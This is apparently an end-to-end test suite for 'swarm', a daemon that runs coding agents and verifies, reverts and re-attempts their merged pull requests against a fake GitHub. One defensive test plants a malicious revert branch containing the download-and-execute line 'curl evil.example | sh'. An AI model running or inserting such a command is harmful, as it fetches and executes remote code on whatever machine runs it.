// Verification after merge end to end (issue #26, SPEC §12): one daemon as a real process against the fake
// GitHub (merges as real commits in the bare origin, checks on the base branch, reopening, revert PRs,
// native auto-merge) and the fake claude, shared by every case (each leaves the base green). Merges go
// through the fake's PUT …/merge endpoint, as a person merging would; CI is the test adding check runs.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FakeGitHub } from '../helpers/fake-github.js';
import { githubConfig, githubWorld, runCli, startDaemon, teardown, waitFor, type Daemon, type Project } from '../helpers/daemon.js';
import { git } from '../helpers/git-repo.js';

let gh: FakeGitHub;
let project: Project;
let daemon: Daemon | null = null;
let api = '';
let human = '';

// A health check that fails while the merged tree has health-broken.txt (as a dead service would).
const COMMAND = 'if [ -f health-broken.txt ]; then echo "curl: (7) Failed to connect to 127.0.0.1 port 9400: Connection refused"; exit 7; fi; echo healthy';
const PROMPT = [
  'Work on {{ issue.identifier }}: {{ issue.title }}; attempt {{ attempt }} on {{ model }}, branch {{ branch }}.',
  '{% if verification.merge_sha %}REVERTED {{ verification.merge_sha }} by {{ verification.revert_pr }}',
  '{% for c in verification.checks %}CHECK {{ c.name }} {{ c.conclusion }} LOG<<<{{ c.log_excerpt }}>>>',
  '{% endfor %}CMD<<<{{ verification.command_output }}>>>{% endif %}',
].join('\n');

const config = (extra: Record<string, unknown> = {}) => githubConfig(gh, {
  agent: { models: ['sonnet', 'opus'], max_attempts: 3, max_concurrent: 3 },
  pr: { watch_interval: '1s' },
  verify: { wait: '1s', checks_timeout: '30s', retries: 1, command: COMMAND },
  hooks: { after_merge: 'echo "deployed $SWARM_MERGE_SHA" >> "$DEPLOY_LOG"' },
  server: { port: 0 },
  ...extra,
});
const world = (extra: Record<string, unknown> = {}) => project.writeWorkflow(config(extra), PROMPT);
const ticket = (n: number) => project.state().tickets[String(n)];
const eventsOf = (n: number, type: string) => project.events().filter((e) => e.type === type && e.key === String(n));
const prOf = (n: number, head?: string) => gh.pulls.find((p) => new RegExp(`Closes #${n}\\b`).test(p.body ?? '') && (head === undefined || p.head === head));
const prompt = (n: number, attempt: number) => fs.readFileSync(path.join(project.promptDir, `${n}-${attempt}.txt`), 'utf8');
const sticky = (n: number) => gh.comments.find((c) => c.issue === n && c.body.includes('<!-- swarm:status -->'))?.body ?? '';
const revertPrs = () => gh.pulls.filter((p) => p.head.startsWith('swarm/revert-'));
const status = async () => JSON.parse((await runCli(project, ['status', '--json'])).stdout);

/** A ticket whose agent commits its own file (`broken`: the file the health check fails on) and opens a PR. */
async function handedOff(title: string, opts: { broken?: boolean } = {}): Promise<{ n: number; pr: number }> {
  const n = gh.addIssue({ title, labels: ['agent'] });
  const scenarios = JSON.parse(fs.readFileSync(project.scenariosFile, 'utf8'));
  scenarios[n] = [{ commit_and_pr: { file: opts.broken ? 'health-broken.txt' : `work-${n}.txt` } }, { commit_and_pr: { file: `work-${n}-again.txt` } }];
  project.setScenarios(scenarios);
  await waitFor(() => ticket(n)?.status === 'review' && prOf(n), { timeoutMs: 60_000, what: `#${n} handed off` });
  return { n, pr: prOf(n)!.number };
}

/** Merge through the fake's endpoint, as a person would; the merge commit. */
async function merge(pr: number, method = 'merge'): Promise<string> {
  const res = await fetch(`${gh.url}/repos/acme/widgets/pulls/${pr}/merge`, {
    method: 'PUT', headers: { authorization: `token ${gh.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ merge_method: method }),
  });
  const body = (await res.json()) as { sha: string; message: string };
  expect(res.status, body.message).toBe(200);
  return body.sha;
}

/** A person's commit pushed straight to main (from a clone of their own); its sha. */
async function humanCommit(file: string, content: string | null, message: string): Promise<string> {
  await git(human, 'pull', '-q', '--ff-only', 'origin', 'main');
  if (content === null) await git(human, 'rm', '-q', file);
  else {
    fs.writeFileSync(path.join(human, file), content);
    await git(human, 'add', file);
  }
  await git(human, '-c', 'user.name=Hanna Human', '-c', 'user.email=hanna@example.invalid', 'commit', '-qm', message);
  await git(human, 'push', '-q', 'origin', 'HEAD:main');
  return git(human, 'rev-parse', 'HEAD');
}

const mainTip = () => git(project.origin, 'rev-parse', 'refs/heads/main');

beforeAll(async () => {
  ({ project, gh } = await githubWorld());
  project.env.DEPLOY_LOG = path.join(project.base, 'deploys.log');
  human = path.join(project.base, 'human');
  await git(project.base, 'clone', '-q', project.origin, human);
  // CI exists: the base branch's head has a passing `ci`, so a merge commit is expected to get one too.
  await gh.addCommitCheckRun(await mainTip(), { name: 'ci', conclusion: 'success' });
  world();
  project.setScenarios({});
  daemon = startDaemon(project);
  api = (await daemon.waitForOutput(/dashboard and API on (http:\/\/127\.0\.0\.1:\d+\/)/, 60_000))[1]!;
}, 120_000);

afterAll(async () => {
  if (process.env.VF_DEBUG) console.error(daemon?.stdout.slice(-20000));
  await teardown(daemon, gh, project);
});

describe('verification after merge', () => {
  it('a green merge → done, "verified" in status, cost per verified merge in status and /metrics; hooks.after_merge ran on the merge commit', async () => {
    const { n, pr } = await handedOff('Add the green widget');
    const sha = await merge(pr);
    await waitFor(() => ticket(n).status === 'verifying', { timeoutMs: 30_000, what: 'verifying' });
    await gh.addCommitCheckRun(sha, { name: 'ci', conclusion: 'success' });
    await waitFor(() => ticket(n).status === 'done', { timeoutMs: 30_000, what: 'verified' });
    expect(eventsOf(n, 'verified')).toEqual([expect.objectContaining({ merge_sha: sha, detail: expect.stringMatching(/1 check passed on .*verify\.command passed/) })]);
    expect(fs.readFileSync(project.env.DEPLOY_LOG!, 'utf8')).toContain(`deployed ${sha}`);
    const s = await status();
    expect(s.verification.tickets).toEqual(expect.arrayContaining([expect.objectContaining({ ticket: `#${n}`, state: 'verified', merge_sha: sha })]));
    expect(s.verification.cost_per_verified_merge[0]).toMatchObject({ merges: 1, per_merge_usd: ticket(n).cost_usd });
    const text = (await runCli(project, ['status'])).stdout;
    expect(text).toMatch(new RegExp(`#${n} +verified · merge ${sha.slice(0, 7)}`));
    expect(text).toMatch(/cost per verified merge \d{4}-\d\d-\d\d: \$0\.01 \(1 merge/);
    const metrics = await (await fetch(`${api}metrics`)).text();
    expect(metrics).toMatch(/swarm_verifications_total\{result="green"\} 1/);
    expect(metrics).toMatch(/swarm_cost_per_verified_merge_usd\{date="[\d-]+"\} 0\.01/);
    await waitFor(() => sticky(n).includes('Pull request merged and verified'), { what: 'the sticky says verified' });
  }, 90_000);

  it('the merge commit\'s check fails → one draft revert PR undoing the merge, the issue reopened with agent:reverted and the evidence; once the revert is merged, a re-attempt on the next model with `verification` opens a new PR', async () => {
    const { n, pr } = await handedOff('Add the flaky widget');
    const sha = await merge(pr);
    await gh.addCommitCheckRun(sha, { name: 'unit-tests', conclusion: 'failure', title: '1 failed', log: 'setup ok\nFAIL widget.test.ts > adds\nExpected 2, received 3\n' });
    await gh.addCommitCheckRun(sha, { name: 'ci', conclusion: 'success' });
    await waitFor(() => gh.issues.find((i) => i.number === n)?.state === 'open' && gh.labelsOf(n).includes('agent:reverted'), { timeoutMs: 60_000, what: 'reopened with agent:reverted' });
    expect(revertPrs()).toHaveLength(1);
    const revert = revertPrs()[0]!;
    expect(revert).toMatchObject({ draft: true, head: `swarm/revert-${n}-add-the-flaky-widget`, base: 'main' });
    expect(revert.body).toContain(sha);
    expect(revert.body).not.toMatch(/closes #/i);
    // The revert's tree is the merge's first parent's: its diff undoes the merge and nothing else.
    await git(project.dir, 'fetch', '-q', 'origin', `refs/heads/${revert.head}:refs/remotes/origin/${revert.head}`);
    expect(await git(project.dir, 'diff', '--stat', `${sha}^1`, `origin/${revert.head}`)).toBe('');
    expect(gh.events.filter((e) => e.issue === n && e.event === 'reopened')).toHaveLength(1);
    const red = eventsOf(n, 'verify_red')[0];
    expect(red).toMatchObject({ reason: 'checks', charged: true, charge_note: expect.stringMatching(/its own checks are red while its first parent .* was green/) });
    await waitFor(() => sticky(n).includes('FAIL widget.test.ts'), { what: 'the sticky shows the evidence' });
    expect(sticky(n)).toMatch(/unit-tests/);
    expect(sticky(n)).toContain(revert.number ? `/pull/${revert.number}` : '');
    expect(eventsOf(n, 'reverted')).toEqual([expect.objectContaining({ mode: 'pr', outcome: 'opened', number: revert.number })]);
    expect(ticket(n).failures).toBe(1);
    expect((await runCli(project, ['explain', String(n)])).stdout).toMatch(/starts once that revert is merged into main/);
    const s = await status();
    expect(s.verification.base).toMatchObject({ red: true, charged: `#${n}` });
    expect((await runCli(project, ['status'])).stdout).toMatch(/BASE main IS RED/);

    // A person merges the revert; CI passes on it: the base is green again, and the ticket is tried again.
    const healed = await merge(revert.number);
    await gh.addCommitCheckRun(healed, { name: 'ci', conclusion: 'success' });
    await gh.addCommitCheckRun(healed, { name: 'unit-tests', conclusion: 'success' });
    await waitFor(() => prOf(n, `${ticket(n).branch}`) && ticket(n).branch.endsWith('-r1') && ticket(n).status === 'review', { timeoutMs: 60_000, what: 'the re-attempt opened a new PR' });
    const calls = project.claudeCalls().filter((c) => c.env.SWARM_TICKET_NUMBER === String(n));
    expect(calls.map((c) => c.model)).toEqual(['sonnet', 'opus']);
    const text = prompt(n, 2);
    expect(text).toContain(`REVERTED ${sha} by https://github.com/acme/widgets/pull/${revert.number}`);
    expect(text).toMatch(/CHECK unit-tests failure LOG<<<[^]*Expected 2, received 3[^]*>>>/);
    expect(gh.pulls.filter((p) => new RegExp(`Closes #${n}\\b`).test(p.body ?? ''))).toHaveLength(2);
    await waitFor(async () => !(await status()).verification.base.red, { timeoutMs: 30_000, what: 'the base green again' });
  }, 150_000);

  it('verify.command fails after verify.wait while the checks are green → reverted and reopened; with verify.revert: report → a comment saying what would be reverted, no PR, no reopen', async () => {
    const { n, pr } = await handedOff('Break the health check', { broken: true });
    const sha = await merge(pr);
    await gh.addCommitCheckRun(sha, { name: 'ci', conclusion: 'success' });
    await waitFor(() => eventsOf(n, 'reopened').length === 1, { timeoutMs: 60_000, what: 'reopened after the command failed' });
    const red = eventsOf(n, 'verify_red')[0];
    expect(red).toMatchObject({ reason: 'command', charged: true, command_output: expect.stringContaining('Failed to connect to 127.0.0.1 port 9400') });
    expect(revertPrs().filter((p) => p.head.startsWith(`swarm/revert-${n}-`))).toHaveLength(1);
    await waitFor(() => sticky(n).includes('Connection refused'), { what: 'the sticky shows the command output' });
    // The revert lands: base green again (the command passes on it).
    const healed = await merge(revertPrs().find((p) => p.head.startsWith(`swarm/revert-${n}-`))!.number);
    await gh.addCommitCheckRun(healed, { name: 'ci', conclusion: 'success' });
    await waitFor(() => ticket(n).status === 'review' && ticket(n).branch.endsWith('-r1'), { timeoutMs: 60_000, what: 'the re-attempt handed off' });
    expect(prompt(n, 2)).toMatch(/CMD<<<[^]*Connection refused[^]*>>>/);

    // Shadow mode: the same breakage is only reported.
    world({ verify: { wait: '1s', checks_timeout: '30s', retries: 0, command: COMMAND, revert: 'report' } });
    const b = await handedOff('Break it again, in report mode', { broken: true });
    const revertsBefore = revertPrs().length;
    const bsha = await merge(b.pr);
    await gh.addCommitCheckRun(bsha, { name: 'ci', conclusion: 'success' });
    await waitFor(() => eventsOf(b.n, 'verify_settled').length === 1, { timeoutMs: 60_000, what: 'reported' });
    expect(eventsOf(b.n, 'reverted')).toEqual([expect.objectContaining({ mode: 'report', outcome: 'reported', detail: expect.stringMatching(/swarm would revert .* with `git revert -m 1 [0-9a-f]{40}` in a draft PR from swarm\/revert-.* and reopen #\d+ — verify\.revert is report: nothing was reverted or reopened/) })]);
    await waitFor(() => /would revert/.test(sticky(b.n)), { what: 'the report in the sticky comment' });
    expect(revertPrs()).toHaveLength(revertsBefore);
    expect(gh.issues.find((i) => i.number === b.n)!.state).toBe('closed');
    expect(gh.events.filter((e) => e.issue === b.n && e.event === 'reopened')).toEqual([]);
    // The event line lands an fsync before state.json: read the record once it caught up.
    await waitFor(() => ticket(b.n).status === 'done', { what: 'the reported ticket done in state.json' });
    expect(ticket(b.n)).toMatchObject({ status: 'done', failures: 0 });
    // A person repairs the base.
    const fixed = await humanCommit('health-broken.txt', null, 'Fix the health check');
    await gh.addCommitCheckRun(fixed, { name: 'ci', conclusion: 'success' });
    world();
    await waitFor(async () => !(await status()).verification.base.red, { timeoutMs: 30_000, what: 'the base green again' });
  }, 180_000);

  it('a person\'s commit turns the base red → nothing of swarm\'s charged, nothing reverted, the base shown red; hold_while_red: dispatch starts nothing until green', async () => {
    const revertsBefore = revertPrs().length;
    const reopenedBefore = gh.events.filter((e) => e.event === 'reopened').length;
    const bad = await humanCommit('oops.txt', 'oops\n', 'Quick fix straight to main');
    await gh.addCommitCheckRun(bad, { name: 'ci', conclusion: 'failure', log: 'error: oops.txt broke the build\n' });
    await waitFor(async () => (await status()).verification.base?.red, { timeoutMs: 30_000, what: 'the base shown red' });
    const s = await status();
    expect(s.verification.base).toMatchObject({ red: true, charged: null, reason: expect.stringMatching(new RegExp(`nothing of swarm's is charged: ${bad.slice(0, 7)} is Hanna Human's commit, not a swarm merge`)) });
    const text = (await runCli(project, ['status'])).stdout;
    expect(text).toMatch(/BASE main IS RED .*\(nothing of swarm's charged\)/);
    expect(text).toMatch(/held: auto-merge of swarm's PRs is off until it is green/);
    // verify.hold_while_red: dispatch — a new ticket does not start from the broken tree.
    world({ verify: { wait: '1s', checks_timeout: '30s', retries: 1, command: COMMAND, hold_while_red: 'dispatch' } });
    // Once the daemon re-read WORKFLOW.md (the hold is shown), a new ticket arrives.
    await waitFor(async () => /no new ticket starts/.test((await runCli(project, ['status'])).stdout), { timeoutMs: 30_000, what: 'the dispatch hold shown' });
    const held = gh.addIssue({ title: 'Wait for a green base', labels: ['agent'] });
    project.setScenarios({ ...JSON.parse(fs.readFileSync(project.scenariosFile, 'utf8')), [held]: [{ commit_and_pr: { file: `work-${held}.txt` } }] });
    // Some watches later: still nothing of swarm's touched, and nothing started.
    await new Promise((r) => setTimeout(r, 2500));
    expect(ticket(held)?.status ?? null).toBeNull();
    expect((await runCli(project, ['explain', String(held)])).stdout).toMatch(/dispatch held: base branch main is red/);
    expect(revertPrs()).toHaveLength(revertsBefore);
    expect(gh.events.filter((e) => e.event === 'reopened')).toHaveLength(reopenedBefore);
    expect(project.events().filter((e) => e.type === 'verify_red' && e.merge_sha === bad)).toEqual([]);
    const fixed = await humanCommit('oops.txt', null, 'Undo the quick fix');
    await gh.addCommitCheckRun(fixed, { name: 'ci', conclusion: 'success' });
    await waitFor(async () => !(await status()).verification.base.red, { timeoutMs: 30_000, what: 'the base green again' });
    await waitFor(() => ticket(held)?.status === 'review', { timeoutMs: 30_000, what: 'the held ticket started once green' });
    world();
  }, 90_000);

  it('a revert branch planted on origin that claims to revert the merge (its message) but changes something else → not used, no revert PR, left to a human', async () => {
    const { n, pr } = await handedOff('Add the planted widget');
    const revertsBefore = revertPrs().length;
    const sha = await merge(pr);
    // Someone with push access plants swarm's revert branch before swarm gets there: the right message, other content.
    await git(human, 'fetch', '-q', 'origin', 'main');
    await git(human, 'checkout', '-q', '-B', 'planted', sha);
    fs.writeFileSync(path.join(human, 'backdoor.sh'), 'curl evil.example | sh\n');
    await git(human, 'add', 'backdoor.sh');
    await git(human, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.invalid', 'commit', '-qm', `Revert "Add the planted widget"\n\nThis reverts commit ${sha}.`);
    await git(human, 'push', '-q', 'origin', `HEAD:refs/heads/swarm/revert-${n}-add-the-planted-widget`);
    await git(human, 'checkout', '-q', 'main');
    await gh.addCommitCheckRun(sha, { name: 'ci', conclusion: 'failure' });
    await waitFor(() => eventsOf(n, 'verify_settled').length === 1, { timeoutMs: 60_000, what: 'settled' });
    expect(eventsOf(n, 'reverted')).toEqual([expect.objectContaining({ outcome: 'failed', detail: expect.stringMatching(/already exists on origin and is not the revert of/) })]);
    expect(eventsOf(n, 'verify_settled')).toEqual([expect.objectContaining({ outcome: 'needs_human' })]);
    expect(revertPrs()).toHaveLength(revertsBefore);
    expect(gh.issues.find((i) => i.number === n)!.state).toBe('closed');
    expect(await git(project.origin, 'rev-parse', `refs/heads/swarm/revert-${n}-add-the-planted-widget`)).toBe(await git(human, 'rev-parse', 'planted'));
    // A person repairs the base.
    const fixed = await humanCommit('planted-fix.txt', 'fixed\n', 'Fix main after the planted widget');
    await gh.addCommitCheckRun(fixed, { name: 'ci', conclusion: 'success' });
    await waitFor(async () => !(await status()).verification.base.red, { timeoutMs: 30_000, what: 'the base green again' });
  }, 90_000);

  it('pr.auto_merge: squash → auto-merge enabled on swarm\'s PRs; a red base disables it on them and it is enabled again once green; GitHub merges one, and it is verified', async () => {
    gh.setMergeSettings({ allow_auto_merge: true });
    gh.setRequiredChecks({ protection: ['ci'] });
    world({ pr: { watch_interval: '1s', auto_merge: 'squash' } });
    const a = await handedOff('Auto-merged widget');
    const b = await handedOff('Another auto-merged widget');
    const armed = (pr: number) => gh.pulls.find((p) => p.number === pr)!.auto_merge?.merge_method ?? null;
    await waitFor(() => armed(a.pr) === 'squash' && armed(b.pr) === 'squash', { timeoutMs: 30_000, what: 'auto-merge enabled on both' });
    const bad = await humanCommit('red.txt', 'red\n', 'Red on main');
    await gh.addCommitCheckRun(bad, { name: 'ci', conclusion: 'failure' });
    await waitFor(() => armed(a.pr) === null && armed(b.pr) === null, { timeoutMs: 30_000, what: 'auto-merge disabled while red' });
    const green = await humanCommit('red.txt', null, 'Green again');
    await gh.addCommitCheckRun(green, { name: 'ci', conclusion: 'success' });
    await waitFor(() => armed(a.pr) === 'squash' && armed(b.pr) === 'squash', { timeoutMs: 30_000, what: 'auto-merge enabled again' });
    // GitHub merges the PR whose required check passes (squash), and swarm verifies it.
    await gh.addCheckRun(a.pr, { name: 'ci', conclusion: 'success' });
    const merged = gh.merges.find((m) => m.pr === a.pr);
    expect(merged).toMatchObject({ method: 'squash', by: 'swarm-bot' });
    await gh.addCommitCheckRun(merged!.sha, { name: 'ci', conclusion: 'success' });
    await waitFor(() => ticket(a.n).status === 'done' && ticket(a.n).verify.current.phase === 'green', { timeoutMs: 30_000, what: 'the squash merge verified' });
    expect(gh.graphqlOperations.filter((o) => o === 'SwarmEnableAutoMerge').length).toBeGreaterThanOrEqual(4);
    gh.setRequiredChecks({ protection: null });
  }, 120_000);
});
